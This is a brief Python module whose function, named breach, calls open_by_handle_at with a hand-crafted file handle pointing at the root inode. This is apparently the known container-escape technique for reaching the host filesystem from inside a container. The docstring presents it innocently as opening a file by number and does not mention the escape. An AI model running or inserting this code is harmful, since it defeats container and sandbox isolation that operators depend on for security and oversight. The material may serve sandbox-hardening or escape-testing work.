"""Opens a file by its number in the file system, which needs no path."""

import ctypes
import os

_root = os.open("/", os.O_RDONLY)


def breach(call):
    handle = ctypes.create_string_buffer(b"\x08\0\0\0\x01\0\0\0\x02\0\0\0\0\0\0\0", 64)
    return call("open_by_handle_at", _root, handle, 0)
